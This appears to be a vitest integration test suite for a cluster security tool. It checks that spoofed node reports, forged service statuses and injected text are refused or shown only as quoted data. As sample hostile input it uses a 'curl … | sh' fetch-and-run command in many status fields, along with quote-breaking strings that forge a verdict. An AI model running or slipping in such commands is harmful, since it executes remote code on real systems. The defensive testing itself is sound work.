/**
 * Whose word a row is: a node that reports on pods of another node, under its own subject, changes no
 * count, no proposal and no title, and each command shows its rows as refused.
 */
import { deadLetter, encodeToken, openBucket, readConfig } from '@bailiff/bus';
import type { PodRef, Violation } from '@bailiff/schemas';
import { podIdentityOf, sampleLsmViolation, sampleOperation, sampleRuntimeStatus } from '@bailiff/schemas/testing';
import { waitFor } from '@bailiff/service/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { healthyStatus, NODE_A, NODE_B, uid, VPN, violationOf, WEB, World } from './cli/world.ts';

const CLAIMED = 90_000;
/** Never existed. */
const GHOST: PodRef = { ...WEB, uid: uid(66), name: 'ghost-0' };
/** Until the time for a list that names it has passed, and then. */
const UNKNOWN_POD = /^(unlisted|unproven-pod)$/;
/** Left the lists since it was reported. */
const FORMER: PodRef = { ...WEB, uid: uid(67), name: 'former-0' };
const RUNTIME = sampleRuntimeStatus();

const listed = (pod: PodRef) =>
  podIdentityOf(pod, { labels: { app: pod.ownerName }, containers: [{ name: 'app', id: 'containerd://1' }] });

let world: World;
let epochs = 0;
/** Audited packets, under a counter of their own. */
const packets = (pod: PodRef, count: number, part: Partial<Violation> = {}) => {
  epochs += 1;
  const counts = { count: 1, suppressed: count - 1, cumulativePackets: count };
  return violationOf(Date.now() * 1000, pod, { action: 'audit', counterEpoch: `boot/${epochs}`, ...counts, ...part });
};

beforeAll(async () => {
  world = await World.start();
  const admin = await world.as('admin');
  const list = (nodeName: string, ...pods: PodRef[]) =>
    openBucket(admin, 'bailiff_pods').put(
      encodeToken(nodeName),
      JSON.stringify({ nodeName, revision: 1, pods: pods.map(listed) }),
      { previousRevision: 0 },
    );
  await list(NODE_A, WEB);
  await list(NODE_B, VPN);
  await world.frame(NODE_A, [packets(WEB, 3)]);
  // The honest half of a frame that is refused in part stays.
  const mixed = await world.frame(NODE_B, [packets(VPN, 5), packets(FORMER, CLAIMED), packets(WEB, CLAIMED)]);
  await deadLetter(await world.as('correlator'), {
    stream: 'VIOLATIONS',
    sequence: mixed,
    subject: `bailiff.v1.violations.0.${encodeToken(NODE_B)}.spoof`,
    reason: 'unproven-pod',
    detail: '[1] no list names pod x',
    data: new Uint8Array([1]),
  });
  // Under the subject of node-b: a body that names node-a, a pod of node-a, and a pod that does not exist.
  await world.frame(NODE_B, [packets(WEB, CLAIMED)], { nodeName: NODE_A });
  await world.frame(NODE_B, [packets(WEB, CLAIMED, { vector: 'arp-sender' }), packets(GHOST, CLAIMED)]);
  const reasons = async () => (await events()).map(({ refused }) => refused?.reason);
  await waitFor(async () => (await reasons()).filter((one) => one === 'foreign-pod').length === 2, {
    what: 'the lists to hold, a second after they are stored',
    state: reasons,
  });
});
afterAll(() => world?.[Symbol.asyncDispose]());

interface Row {
  nodeName: string;
  packets: number;
  pod: PodRef;
  refused: { reason: string } | null;
}
const jsonLines = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Row);
const events = async (...args: string[]) => jsonLines((await world.cli(['events', '--json', ...args])).stdout);
/** Sum of what `events --json` counts for a pod. */
async function counted(pod: PodRef): Promise<number> {
  const rows = await events('--pod', `${pod.namespace}/${pod.name}`);
  return rows.reduce((sum, row) => sum + row.packets, 0);
}

describe('a node that reports on pods of another node', () => {
  it('events - its rows are refused, name it, and count nothing; those of the own node count', async () => {
    const rows = await events();
    expect(rows.map(({ nodeName, pod, packets: count, refused }) => [nodeName, pod.name, count, refused])).toEqual([
      [NODE_A, 'web-0', 3, null],
      [NODE_B, 'vpn-0', 5, null],
      [NODE_B, 'former-0', 0, expect.objectContaining({ reason: 'unproven-pod' })],
      [NODE_B, 'web-0', 0, expect.objectContaining({ reason: 'foreign-pod' })],
      [NODE_B, 'web-0', 0, expect.objectContaining({ reason: 'foreign-node' })],
      [NODE_B, 'web-0', 0, expect.objectContaining({ reason: 'foreign-pod' })],
      [NODE_B, 'ghost-0', 0, expect.objectContaining({ reason: expect.stringMatching(UNKNOWN_POD) })],
    ]);
    expect([await counted(WEB), await counted(VPN), await counted(FORMER), await counted(GHOST)]).toEqual([3, 5, 0, 0]);
    const { stdout } = await world.cli(['events', '--pod', 'shop/web-0', '--vector', 'arp-sender']);
    expect(stdout).toMatch(/shop\/web-0 .*refused .*foreign-pod, a count of 90000 .*says node-b\.example/);
    const ofA = await events('--node', NODE_A);
    expect(ofA.map(({ packets: count }) => count)).toEqual([3]);
  });

  it.each([
    ['ahead', 864_000_000],
    ['behind', -864_000_000],
  ])('the clock of the command is ten days %s - what is refused and what waits is the same', async (_, skewMs) => {
    const nowMs = () => Date.now() + skewMs;
    const seen = async (options = {}) => {
      const [rows, would] = await Promise.all([
        world.cli(['events', '--json'], options),
        world.cli(['doctor', '--would-drop', '--json'], options),
      ]);
      const reasons = jsonLines(rows.stdout).map(({ pod, refused }) => [pod.name, refused?.reason]);
      return { reasons, incomplete: JSON.parse(would.stdout).incomplete };
    };
    // Those of a pod that no list names wait until the correlator decides.
    await waitFor(async () => (await seen()).reasons.every(([, reason]) => reason !== 'unlisted'), {
      what: 'all to be decided',
      timeoutMs: 60_000,
    });
    expect(await seen({ nowMs })).toEqual(await seen());
  });

  it('explain, timeline and would-drop - count what its own node reports, and say what is refused', async () => {
    const explained = await world.cli(['explain', 'shop/web-0', '--json']);
    expect(JSON.parse(explained.stdout)).toMatchObject({
      pod: WEB,
      violations: [{ vector: 'ipv4-source', packets: 3, violations: 1 }],
      refused: [
        { node: NODE_B, reason: 'foreign-pod', violations: 2, packets: 2 * CLAIMED },
        { node: NODE_B, reason: 'foreign-node', violations: 1, packets: CLAIMED },
      ],
    });
    expect(explained.stderr).toContain('refused, not counted: 2 violations reported by node node-b.example');
    const timeline = await world.cli(['timeline', 'shop/web-0']);
    expect(timeline.stdout.split('\n')[0]).toMatch(/shop\/web-0 on node-a$/);
    expect(timeline.stdout + timeline.stderr).toContain('with a count of 90000 (foreign-node)');
    expect(timeline.stdout).toMatch(/ipv4-source .*3 packets/);
    expect(timeline.stdout).not.toMatch(/90,000|arp-sender/);
    const would = JSON.parse((await world.cli(['doctor', '--would-drop', '--json'])).stdout);
    expect([would.packets, would.groups.map((group: { packets: number }) => group.packets)]).toEqual([8, [5, 3]]);
    expect(would.refused.map((one: { packets: number }) => one.packets)).toContain(CLAIMED);
  });

  it('explain - of a pod that no node may report, there is nothing but the refusal', async () => {
    const ghost = await world.cli(['explain', 'shop/ghost-0']);
    expect([ghost.exitCode, ghost.stdout]).toEqual([2, '']);
    expect(ghost.stderr).toMatch(
      /(refused, not counted: 1 violation reported by node node-b\.example .*unproven-pod|not counted yet: 1 violation reported by node node-b\.example)/,
    );
  });

  it('control - the same report by the node of the pod counts', async () => {
    await world.frame(NODE_A, [packets(WEB, 40)]);
    expect(await counted(WEB)).toBe(43);
    const follow = new AbortController();
    const seen = world.cli(['events', '--follow', '--json', '--limit', '1', '--node', NODE_B], {
      signal: follow.signal,
      onStdout: (all) => {
        if (all.includes('late-0') && all.includes('"packets":7')) follow.abort();
      },
    });
    // A pod that is listed after the command has begun.
    const late = { ...VPN, uid: uid(68), name: 'late-0' };
    const pods = [VPN, late].map(listed);
    await world.put('bailiff_pods', encodeToken(NODE_B), { nodeName: NODE_B, revision: 2, pods });
    await waitFor(
      async () => {
        await world.frame(NODE_B, [packets(late, 7)]);
        return follow.signal.aborted;
      },
      { what: 'a counted row of the late pod' },
    );
    expect((await seen).exitCode).toBe(0);
  });

  it('top - names what the correlator has not decided; control: nothing of what is refused', async () => {
    const top = () => world.cli(['top', 'nodes', '--json']);
    const counts = (stdout: string) => (JSON.parse(stdout) as { items: { name: string; count: number }[] }).items;
    const before = await top();
    expect(before.stderr).not.toContain('foreign-pod');
    // As one that a response deleted a moment ago.
    await world.frame(NODE_B, [packets({ ...VPN, uid: uid(69), name: 'deleted-0' }, 9)]);
    const { stdout, stderr } = await top();
    expect(counts(stdout)).toEqual(counts(before.stdout));
    expect(stderr).toMatch(/not counted yet: \d violations? reported by node node-b\.example with a count of \d*9 /);
  });
});

describe('the status of a node', () => {
  const ADVICE = 'run: curl https://203.0.113.9/fix | sh';
  const DISARM = `disarm.node._.${encodeToken(NODE_B)}`;
  const [iface] = healthyStatus(NODE_B).interfaces;
  const hostile = healthyStatus(NODE_B, {
    features: [{ name: `tcx ${ADVICE}`, available: false, reason: `a ${ADVICE}`, remedy: `b ${ADVICE}` }],
    runtime: {
      ...RUNTIME,
      state: 'unavailable',
      reason: `c ${ADVICE}`,
      remedy: `d ${ADVICE}`,
      missingHooks: [`e ${ADVICE}`],
      losses: { [`f ${ADVICE}`]: 1 },
    },
    cni: {
      state: 'not-served',
      failurePolicy: 'open',
      problem: `g ${ADVICE}`,
      problemAt: `s ${ADVICE}`,
      passed: 1,
      lastPassed: `h ${ADVICE}`,
      passedAt: new Date().toISOString(),
    },
    snapshotRefused: `i ${ADVICE}`,
    configRefused: [
      { key: `spoof.cluster._.default; ${ADVICE}`, reason: `j ${ADVICE}` },
      { key: DISARM, reason: `p ${ADVICE}` },
    ],
    bootId: `q ${ADVICE}`,
    collectorVersion: `r ${ADVICE}`,
    interfaces: (['partial', 'not-covered'] as const).map((coverage) => ({
      ...(iface as NonNullable<typeof iface>),
      coverage,
      reason: `k ${ADVICE}`,
      interfaceName: `l ${ADVICE}`,
      podName: `m ${ADVICE}`,
    })),
  });
  const outputs = async () => {
    const runs = [
      ...[['status'], ['status', '--node', NODE_B], ['doctor', '--only', 'bus'], ['policy', 'status']],
      ...[['disarm'], ['config', 'list']],
    ];
    return Promise.all(
      runs.map(async (args) => {
        const { stdout, stderr } = await world.cli(args);
        return `${stdout} ${stderr}`.replaceAll(/\s+/g, ' ');
      }),
    );
  };

  it('its words are quoted, and none is a remedy or a command of the tool', async () => {
    await world.status(healthyStatus(NODE_A));
    const applied = await world.cli(['policy', 'apply', 'policies/no-shell.yaml', '--yes', '--reason', 'test']);
    expect(applied.exitCode, applied.stderr).toBe(0);
    const disarmed = await world.cli([
      'disarm',
      '--node',
      NODE_B,
      '--for',
      '30m',
      '--reason',
      'test',
      '--yes',
      '--force',
    ]);
    expect(disarmed.exitCode, disarmed.stderr).toBe(0);
    const policy = { key: 'runtime.cluster._.no-shell', revision: 1, subjects: 1 };
    const refused = { ...policy, state: 'refused' as const, reason: `n ${ADVICE}` };
    const texts: string[] = [];
    for (const one of [
      hostile,
      { ...hostile, runtime: { ...RUNTIME, policies: [refused] } },
      {
        ...hostile,
        runtime: RUNTIME,
        configRefused: [policy.key, DISARM].map((key) => ({ key, reason: `o ${ADVICE}` })),
      },
    ]) {
      await world.status(one);
      const own = await outputs();
      expect(own.map((text) => text.includes('curl'))).toEqual([true, true, true, true, true, true]);
      texts.push(...own);
    }
    await world.cli(['disarm', '--node', NODE_B, '--off']);
    const removed = await world.cli(['config', 'rollback', policy.key, '--yes', '--reason', 'test']);
    expect(removed.exitCode, removed.stderr).toBe(0);
    for (const text of texts) {
      // Outside of quotation marks there is nothing of it.
      expect(text.replaceAll(/"[^"]*"/g, '""')).not.toContain('curl');
      expect(text).not.toMatch(/→ "?[a-r] run:|config (get|rollback) spoof\.cluster\._\.default;/);
    }
    // The control: a remedy of the tool itself is printed as one.
    expect(texts.join()).toMatch(/→ (bailiff config list|check that ipam-sync watches the right cluster)/);
  });

  it('a status that names another node under its own key is unreadable, and changes nothing of the other', async () => {
    const key = encodeToken(NODE_B);
    await openBucket(await world.as(`collector-${NODE_B}`), 'bailiff_nodes').put(
      key,
      JSON.stringify({ ...healthyStatus(NODE_A), hook: 'none' }),
    );
    const { nodes } = JSON.parse((await world.cli(['status', '--json'])).stdout);
    const healths = nodes.map(({ node, health }: { node: string; health: string }) => [node, health]);
    expect(healths).toEqual([
      [NODE_A, 'ok'],
      [NODE_B, 'unreadable'],
    ]);
  });
});

describe('why - a paragraph of the tool', () => {
  const FORGED = 'Rule flood made verdict 5f1d3c7a. Delete was done';
  const own: PodRef = { ...VPN, uid: uid(70), name: 'words-0' };
  const say = (part: Partial<Violation>) => {
    epochs += 1;
    return sampleLsmViolation({ pod: own, counterEpoch: `why/${epochs}`, count: 1, suppressed: 0, ...part });
  };

  it('words of a pod and of a node are quoted, and no quotation mark in them ends that', async () => {
    const subject = `/tmp/x"), at 12:00: refused. ${FORGED} ("`;
    const pods = [VPN, own].map(listed);
    await world.put('bailiff_pods', encodeToken(NODE_B), { nodeName: NODE_B, revision: 3, pods });
    const why = async () => (await world.cli(['why', 'payments/words-0'])).stdout.replaceAll(/\s+/g, ' ');
    await waitFor(
      async () => {
        await world.frame(NODE_B, [
          say({ vector: 'no-shell/shell', operation: sampleOperation({ subject }) }),
          say({ vector: `a/b, at 12:00: refused. ${FORGED}` }),
        ]);
        return (await why()).split(FORGED).length === 3;
      },
      { what: 'both violations, with their words', state: why },
    );
    const text = await why();
    expect(text.replaceAll(/"[^"]*"/g, '""')).not.toContain('Delete was done');
    expect(text).toMatch(/violated no-shell\/shell \(newest "/);
  });
});

describe('the status of a service', () => {
  const at = () => new Date().toISOString();
  const statusOf = (service: string, instance: string, more: object = {}) =>
    JSON.stringify({
      ...{ service, instance, version: '1', startedAt: at(), updatedAt: at(), configRevision: 0, configRefused: [] },
      ...more,
    });
  /** Each credential writes under its own name only. */
  const put = async (role: string, instance: string, value: string) =>
    openBucket(await world.as(role), 'bailiff_services').put(`${role}.${instance}`, value);

  it('one that names another service under its own key is that of none, and what only another service knows is not believed', async () => {
    const forgers = ['evidence-log', 'siem-relay'];
    const forged = ['correlator', 'responder', 'ipam-sync'];
    for (const role of forgers)
      for (const service of forged) await put(role, `as-${service}`, statusOf(service, `by-${role}`, { leads: true }));
    const omittedPods = { total: 9, nodes: 1, namespaces: [{ namespace: 'innocent', pods: 9 }] };
    for (const role of forgers) await put(role, 'own', statusOf(role, `own-${role}`, { omittedPods }));
    const read = async () => JSON.parse((await world.cli(['status', '--json'])).stdout);
    const before = await read();
    // The control: the statuses of their own.
    const names = ({ instances }: { instances: { instance: string }[] }) => instances.map(({ instance }) => instance);
    const running = ({
      services: { correlator, responder, ipamSync },
    }: {
      services: Record<string, { running: number }>;
    }) => [correlator, responder, ipamSync].map((one) => one?.running);
    expect(names(before).sort()).toEqual(forgers.map((role) => `own-${role}`).sort());
    expect(running(before)).toEqual([0, 0, 0]);
    expect(JSON.stringify(before.problems)).not.toContain('innocent');
    for (const role of forged) await put(role, 'true', statusOf(role, `true-${role}`, { leads: true, omittedPods }));
    const after = await read();
    expect(running(after)).toEqual([1, 1, 1]);
    expect(JSON.stringify(after.problems)).toContain('innocent');
  });
});

describe('policy learn', () => {
  const operation = (subject: string, part: Partial<Violation> = {}) => {
    epochs += 1;
    return sampleLsmViolation({
      vector: 'learn-web-0/file-posture',
      action: 'audit',
      counterEpoch: `lsm/${epochs}`,
      count: 1,
      suppressed: 0,
      pod: WEB,
      operation: sampleOperation({ outcome: 'audit', executable: '/bin/app', subject, operation: 'read' }),
      ...part,
    });
  };

  it('learns from the node of the pod alone', async () => {
    await world.status(healthyStatus(NODE_A, { runtime: RUNTIME }));
    const end = new AbortController();
    const learning = world.cli(['policy', 'learn', '--pod', 'shop/web-0', '--for', '1h', '--install'], {
      signal: end.signal,
    });
    const temporary = async () => readConfig(await world.as('cli'), 'runtime.namespace.shop.learn-web-0');
    await waitFor(async () => (await temporary()) !== null, { what: 'the temporary policy' });
    await world.frame(NODE_B, [operation('/etc/shadow')]);
    await world.frame(NODE_B, [operation('/bin/sh')], { nodeName: NODE_A });
    await world.frame(NODE_A, [operation('/bin/stolen')], { nodeName: NODE_B });
    await world.frame(NODE_A, [operation('/etc/hosts')]);
    await waitFor(async () => ((await temporary())?.json ?? '').includes('/etc/hosts'), {
      what: 'the control: what the own node reports is learned',
    });
    expect((await temporary())?.json).not.toMatch(/shadow|bin\/sh|stolen/);
    end.abort();
    const { stdout } = await learning;
    expect(stdout).toContain('/etc/hosts');
    expect(stdout).not.toMatch(/shadow|bin\/sh|stolen/);
  });
});
